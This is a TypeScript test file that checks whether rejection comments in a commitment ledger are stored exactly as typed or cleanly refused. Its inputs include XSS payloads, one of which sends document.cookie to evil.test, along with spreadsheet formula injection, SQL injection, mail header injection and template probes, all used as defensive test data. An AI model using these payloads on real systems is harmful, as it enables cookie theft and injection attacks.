import { tellSize } from '@rebound/shared/testing/tell-size';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { verifyHistory } from '../history/verify-history';
import { type Ledger, openLedger } from '../testing/ledger';
import { smallCompany } from '../testing/small-company';

const fuzzed = process.env.REBOUND_LONG ? 1_000 : 100;

/** Each to be kept character for character. */
const written: [what: string, comment: string][] = [
  ['10,000 characters', 'x'.repeat(10_000)],
  ['10,000 characters in 5,000 emoji', '🏗'.repeat(5_000)],
  ['10,000 line ends around a word', `${'\n'.repeat(5_000)}.${'\n'.repeat(4_999)}`],
  ['space around it', '  \t see line 3 \n\n'],
  ['every kind of line end', 'a\nb\r\nc\rd\u2028e\u2029f\u0085g\u000bh\u000ci'],
  ['text from right to left', 'يجب تصحيح رمز المورّد ‏V-2317‎ قبل القبول'],
  ['direction characters', '\u202eexe.tnemyap\u202c \u2066a\u2069 \u200e\u200f\u061c'],
  ['characters without width', 'Pay\u200bPal\u200c\u200d\u2060\ufeff\u00ad'],
  ['a mark at the start, as of a file', '\ufeffSee line 3.'],
  ['families, flags and skins', '👩‍👩‍👧‍👦 🇩🇪 👍🏽 ❤️‍🔥'],
  ['one letter in two spellings', 'Zürich Zu\u0308rich'],
  ['marks without end', `Z${'\u0310\u0321\u0489'.repeat(300)}`],
  ['characters that are none', '\ufffe\uffff\ufdd0\u{10ffff}\u{1fffe}'],
  ['its own replacement', '\ufffd \ufffd'],
  ['control characters', '\u0001\u0007\u0008\u001b[31m\u007f\u009b'],
  ['script', '<script>fetch("//evil.test/"+document.cookie)</script><img src=x onerror=alert(1)>'],
  ['markup that ends ours', '</blockquote></template></iframe><!--\u0020--!><svg/onload=alert(1)>'],
  ['character references', '&lt;b&gt; &amp;amp; &#x3c; &#0;'],
  ['a link that runs', '[click](javascript:alert(1)) javascript:alert(1)'],
  ['a formula', '=HYPERLINK("http://evil.test?"&A1) @SUM(1) +1 -1 =cmd|\' /C calc\'!A0'],
  ['templates', '{{7*7}} $(7*7) <%= 7 %> #{7} $1 %s %00 {0}'],
  ['SQL', '\'; DROP TABLE letter; --" ) OR 1=1 /*'],
  ['JSON in JSON', '{"comment":"\\u0000\\ud800"} \\" \\\\ \\/'],
  ['mail headers', 'Fine.\r\nBcc: eve@evil.test\r\n\r\n.\r\nQUIT'],
  ['names of every object', '__proto__ constructor toString'],
];

/** Each to be refused: no database and no encoding can keep it. */
const unkept: [what: string, comment: string][] = [
  ['nothing', ''],
  ['nothing but space', ' \n\t\u00a0\u2003\ufeff'],
  ['nothing that can be seen', '\u200b\u2060\u202e\u00ad\u0007\u{e0041}\ufe0f'],
  ['10,001 characters', 'x'.repeat(10_001)],
  ['NUL', '\0'],
  ['NUL within', 'See line 3.\0Approved.'],
  ['the first half of a character', 'a\ud83c'],
  ['the second half', '\udfd7b'],
  ['both halves the wrong way round', '\udfd7\ud83c'],
  ['half a character among whole ones', '🏗\ud83c🏗'],
];

const odd = [
  '\u0000',
  '\ud83c',
  '\udfd7',
  '\u202e',
  '\u200b',
  '\ufeff',
  '\u2028',
  '\r',
  '\n',
  '"',
  '\\',
  '<',
  '&',
  '=',
  '\u001b',
];
const anything = fc.array(fc.oneof(fc.constantFrom(...odd), fc.string({ unit: 'binary', maxLength: 8 }), fc.lorem()), {
  minLength: 1,
  maxLength: 40,
});

let ledger: Ledger;
let next = 0;

beforeAll(async () => {
  const company = smallCompany();
  const [pattern] = company.commitments;
  if (!pattern) throw new Error('The company has no commitment.');
  const number = written.length + unkept.length + fuzzed;
  company.commitments = Array.from({ length: number }, (_, index) => ({
    ...pattern,
    id: `c-${index}`,
    lines: linesOf(index),
  }));
  ledger = await openLedger([company]);
  function linesOf(index: number) {
    return (pattern?.lines ?? []).map((line) => ({ ...line, id: `${line.id}-${index}` }));
  }
}, 120_000);
afterAll(() => ledger.close(), 120_000);

describe('a comment is kept as it was typed', () => {
  it.each(written)('%s', async (_, comment) => {
    expect(await kept(comment)).toBe(true);
  });

  it('whatever it is made of', async () => {
    const comments = fc.sample(anything, { numRuns: fuzzed, seed: 20 }).map((parts) => `x${parts.join('')}`);
    let wrong = 0;
    for (const comment of comments) {
      const whole = comment.isWellFormed() && !comment.includes('\0');
      if (!whole) wrong += 1;
      expect(await kept(comment), JSON.stringify(comment)).toBe(whole);
    }
    expect(wrong).toBeGreaterThan(fuzzed / 20);
    expect(wrong).toBeLessThan(fuzzed * 0.95);
    tellSize(`S10: ${written.length + fuzzed - wrong} comments kept as typed, ${unkept.length + wrong} refused`);
  }, 600_000);
});

it.each(unkept)('a comment is refused, and nothing happens, with %s', async (_, comment) => {
  expect(await kept(comment)).toBe(false);
});

it('and the history still proves itself', async () => {
  expect(await verifyHistory(ledger.deps.db.read, 'one')).toMatchObject({ ok: true });
});

/** Rejects a commitment with `comment`. True when all who ask get it back exactly, false when it was refused. */
async function kept(comment: string): Promise<boolean> {
  const id = `c-${next}`;
  next += 1;
  const before = await ledger.play(id, ['manager', 'send']);
  const answer = await ledger.command('approver', id, 'reject', { comment });
  if (answer.status === 422) {
    const { code, issues } = await answer.json();
    expect([code, issues[0].path]).toEqual(['invalid', 'comment']);
    expect(await ledger.view('controller', id)).toEqual(before);
    return false;
  }
  expect(answer.status).toBe(200);
  const view = await ledger.view('manager', id);
  expect(view.rejections.map((one) => one.comment)).toEqual([comment]);
  const history = await (await ledger.as('manager', 'GET', `/v1/commitments/${id}/history`)).json();
  expect(history.items[0]).toMatchObject({ changed: 'Rejected Message', to: comment });
  return true;
}
